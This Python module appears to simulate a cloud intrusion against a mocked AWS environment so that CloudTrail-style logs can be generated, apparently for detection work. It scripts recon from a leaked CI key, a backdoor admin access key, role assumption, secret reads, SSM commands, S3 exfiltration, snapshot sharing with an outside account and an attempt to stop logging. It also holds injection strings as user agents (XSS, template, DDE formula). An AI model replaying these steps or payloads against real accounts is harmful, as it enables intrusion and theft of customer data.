"""The attack: a leaked CI key is used to look around, take a role, make a second key, and carry customers' data away.

Each step is a real call against the simulated AWS; what CloudTrail would have recorded of it is kept.
"""

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from typing import Any

from botocore import xform_name
from botocore.exceptions import ClientError

from simulation.organisation import (
    CI_BUILD,
    EXPORT_FILES,
    EXPORTS,
    GUESSED_ROLES,
    PROD_WEB,
    SECRETS,
    TRAIL_NAME,
    Account,
    Cloud,
    Estate,
    fetched,
    session_of,
)
from simulation.records import Call, Caller

ADDRESS, SECOND_ADDRESS = "203.0.113.44", "198.51.100.23"
AGENT = "aws-cli/2.31.0 md/prompt#off os/linux#6.12 lang/python#3.13.7"
# Log content is written by attackers: markup, a right-to-left override, a template, a formula.
HOSTILE_AGENTS = (
    "<script>alert('fp')</script>",
    "aws-cli/2.31.0 \u202egnp.exe",
    "{{7*7}} {% load x %}",
    "=cmd|'/c calc'!A1",
)
FIRST_QUESTIONS: tuple[tuple[str, str, dict[str, list[str]]], ...] = (
    ("sts", "GetCallerIdentity", {}),
    ("s3", "ListBuckets", {}),
    ("iam", "ListUsers", {}),
    ("iam", "ListRoles", {}),
    ("ec2", "DescribeInstances", {}),
    ("secretsmanager", "ListSecrets", {}),
    # Without AWS's own 1,500 policies, which everybody can read anywhere.
    ("iam", "GetAccountAuthorizationDetails", {"Filter": ["User", "Role", "Group", "LocalManagedPolicy"]}),
)
INVENTORY = {
    "ec2": "DescribeVolumes DescribeSnapshots DescribeSecurityGroups DescribeVpcs DescribeSubnets DescribeRouteTables "
    "DescribeKeyPairs DescribeAddresses DescribeNetworkInterfaces DescribeInternetGateways DescribeNatGateways "
    "DescribeRegions DescribeAvailabilityZones DescribeVpcEndpoints DescribeNetworkAcls DescribeTags "
    "DescribeLaunchTemplates DescribeCustomerGateways DescribeVpnGateways DescribeTransitGateways",
    "iam": "ListGroups ListPolicies ListInstanceProfiles ListServerCertificates ListSAMLProviders ListAccountAliases "
    "GetAccountSummary ListOpenIDConnectProviders ListVirtualMFADevices",
    "ssm": "DescribeParameters",
    "kms": "ListKeys",
    "cloudtrail": "DescribeTrails",
}


@dataclass
class Story:
    """The attack as it goes on: who the attacker is just now, what time it is, what was recorded."""

    cloud: Cloud
    caller: Caller
    session: Any
    at: datetime
    address: str = ADDRESS
    agent: str = AGENT
    calls: list[Call] = field(default_factory=list)

    def do(self, service: str, operation: str, given: Mapping[str, Any], told: Mapping[str, Any] | None = None) -> Any:
        """Call AWS and record it; ``told`` is how CloudTrail words the parameters where it does so differently."""
        client = self.cloud.client_of(self.session, service)
        answer, error = {}, None
        try:
            answer = getattr(client, xform_name(operation))(**given)
        except ClientError as refused:
            error = (refused.response["Error"]["Code"], refused.response["Error"]["Message"])
        self.record(
            service, operation, told if told is not None else lowered(given), response_of(operation, answer), error
        )
        return answer

    def record(
        self,
        service: str,
        operation: str,
        request: Mapping[str, Any] | None,
        response: Mapping[str, Any] | None = None,
        error: tuple[str, str] | None = None,
    ) -> None:
        extra = {"managementEvent": False, "eventCategory": "Data"} if operation == "GetObject" else {}
        self.calls.append(
            Call(
                service=service,
                name=operation,
                at=self.at,
                caller=self.caller,
                address=self.address,
                agent=self.agent,
                request=request or None,
                response=response,
                error=error,
                extra=extra,
            )
        )

    def wait(self, **time: float) -> None:
        self.at += timedelta(**time)


def lowered(value: Any) -> Any:
    """Parameters as CloudTrail spells them: lower camel case."""
    if isinstance(value, Mapping):
        return {key[:1].lower() + key[1:]: lowered(inner) for key, inner in value.items()}
    return [lowered(inner) for inner in value] if isinstance(value, list) else value


def response_of(operation: str, answer: Mapping[str, Any]) -> Mapping[str, Any] | None:
    """What CloudTrail keeps of an answer: of calls that make something, without secrets."""
    if operation == "AssumeRole" and answer:
        key = answer["Credentials"]
        credentials = {
            "accessKeyId": key["AccessKeyId"],
            "expiration": key["Expiration"].strftime("%b %d, %Y %I:%M:%S %p"),
        }
        user = answer["AssumedRoleUser"]
        return {
            "credentials": credentials,
            "assumedRoleUser": {"assumedRoleId": user["AssumedRoleId"], "arn": user["Arn"]},
        }
    if operation == "CreateAccessKey" and answer:
        key = answer["AccessKey"]
        return {"accessKey": {"accessKeyId": key["AccessKeyId"], "userName": key["UserName"], "status": "Active"}}
    return None


def play(cloud: Cloud, estate: Estate, begin: datetime) -> Story:
    """Play the whole attack from ``begin`` on; it lasts a little over three hours."""
    session = session_of(*estate.leaked_key)
    story = Story(cloud, Caller(PROD_WEB, "ci-deploy", estate.leaked_key[0]), session, begin)
    look_around(story)
    take_inventory(story)
    make_second_key(story)
    try_doors(story)
    take_role(story, PROD_WEB, "DataPlatform", "nightly")
    story.address = SECOND_ADDRESS
    read_secrets(story)
    run_code(story, estate)
    carry_data_away(story)
    share_disk(story, estate)
    cover_tracks(story)
    visit_builds(story)
    return story


def look_around(story: Story) -> None:
    """Who am I, and what is here? With one tool after another."""
    for number, (service, operation, given) in enumerate(FIRST_QUESTIONS):
        story.agent = HOSTILE_AGENTS[number] if number < len(HOSTILE_AGENTS) else AGENT
        story.do(service, operation, given)
        story.wait(seconds=41)


def take_inventory(story: Story) -> None:
    """A script asks everything that there is to ask, in two minutes."""
    for service, what in INVENTORY.items():
        for operation in what.split():
            story.do(service, operation, {})
            story.wait(seconds=3)


def make_second_key(story: Story) -> None:
    """A way back in: a second key for another user."""
    story.wait(minutes=20)
    story.do("iam", "CreateAccessKey", {"UserName": "svc-backup"})
    story.wait(minutes=3)
    story.do(
        "iam",
        "AttachUserPolicy",
        {"UserName": "svc-backup", "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
    )


def try_doors(story: Story) -> None:
    """Guess the names of the other account's roles; each is refused."""
    story.wait(minutes=5)
    for role in GUESSED_ROLES:
        story.do("sts", "AssumeRole", {"RoleArn": CI_BUILD.role(role), "RoleSessionName": "ci"})
        story.wait(seconds=12)


def take_role(story: Story, account: Account, role: str, name: str) -> None:
    """Go on as a role, by real credentials of it."""
    story.wait(minutes=12)
    before = story.caller
    given = story.do("sts", "AssumeRole", {"RoleArn": account.role(role), "RoleSessionName": name})["Credentials"]
    if account != before.account:
        tell_owner(story, account)
    story.session = session_of(given["AccessKeyId"], given["SecretAccessKey"], given["SessionToken"])
    story.caller = Caller(account, role, given["AccessKeyId"], name)
    story.wait(minutes=2)
    story.do("sts", "GetCallerIdentity", {})


def tell_owner(story: Story, owner: Account) -> None:
    """CloudTrail tells the account that owns the role as well, where the caller is only an account and a principal.

    https://docs.aws.amazon.com/IAM/latest/UserGuide/cloudtrail-integration.html
    """
    own = story.calls[-1]
    shared = {"sharedEventID": f"5ba1ed00-0000-4000-8000-{len(story.calls):012d}"}
    whom = own.caller.identity()
    identity = {"type": "AWSAccount", "principalId": whom["principalId"], "accountId": own.caller.account.number}
    seen = replace(own, caller=replace(own.caller, account=owner), extra={**shared, "userIdentity": identity})
    story.calls[-1:] = [replace(own, extra=shared), seen]


def read_secrets(story: Story) -> None:
    for number in range(SECRETS):
        story.wait(seconds=9)
        story.do("secretsmanager", "GetSecretValue", {"SecretId": f"prod/service-{number:02d}"})


def run_code(story: Story, estate: Estate) -> None:
    """Commands for two machines: at the start of one by its user data, on the other at once."""
    story.wait(minutes=17)
    one = {"InstanceIds": [estate.instance]}
    story.do("ec2", "StopInstances", one, {"instancesSet": {"items": [{"instanceId": estate.instance}]}})
    story.wait(minutes=2)
    data = base64.b64encode(b"#!/bin/sh\n# of the simulation\n")
    told = {"instanceId": estate.instance, "userData": "<sensitiveDataRemoved>"}
    story.do("ec2", "ModifyInstanceAttribute", {"InstanceId": estate.instance, "UserData": {"Value": data}}, told)
    story.wait(seconds=40)
    story.do("ec2", "StartInstances", one, {"instancesSet": {"items": [{"instanceId": estate.instance}]}})
    story.wait(minutes=3)
    command = {"InstanceIds": [estate.neighbour], "DocumentName": "AWS-RunShellScript", "Comment": HOSTILE_AGENTS[3]}
    hidden = {"parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}
    story.do("ssm", "SendCommand", {**command, "Parameters": {"commands": ["id"]}}, lowered(command) | hidden)


def carry_data_away(story: Story) -> None:
    story.wait(minutes=6)
    for number in range(EXPORT_FILES):
        story.wait(seconds=2)
        key = f"2026/export-{number:03d}.parquet"
        fetched(PROD_WEB, EXPORTS, key)
        story.record("s3", "GetObject", {"bucketName": EXPORTS, "key": key})


def share_disk(story: Story, estate: Estate) -> None:
    """A copy of the instance's disk, given to an account outside."""
    story.wait(minutes=9)
    story.do("ec2", "DescribeInstanceAttribute", {"InstanceId": estate.instance, "Attribute": "userData"})
    volumes = story.do("ec2", "DescribeVolumes", {})["Volumes"]
    volume = next(v["VolumeId"] for v in volumes if v["Attachments"][0]["InstanceId"] == estate.instance)
    story.wait(minutes=1)
    snapshot = story.do("ec2", "CreateSnapshot", {"VolumeId": volume})["SnapshotId"]
    story.wait(minutes=5)
    given = {
        "SnapshotId": snapshot,
        "Attribute": "createVolumePermission",
        "OperationType": "add",
        "UserIds": ["999999999999"],
    }
    permission = {"add": {"items": [{"userId": "999999999999"}]}}
    told = {"snapshotId": snapshot, "createVolumePermission": permission, "attributeType": "CREATE_VOLUME_PERMISSION"}
    story.do("ec2", "ModifySnapshotAttribute", given, told)


def cover_tracks(story: Story) -> None:
    """Tries to stop the trail; a policy of the organisation forbids it."""
    story.wait(minutes=14)
    story.do("cloudtrail", "StopLogging", {"Name": TRAIL_NAME})


def visit_builds(story: Story) -> None:
    """Over a second role into the account of the builds, for a look at its keys."""
    story.wait(minutes=20)
    take_role(story, CI_BUILD, "ArtifactReader", "nightly")
    for service, operation in (("s3", "ListBuckets"), ("iam", "ListUsers"), ("kms", "ListKeys")):
        story.wait(seconds=30)
        story.do(service, operation, {})
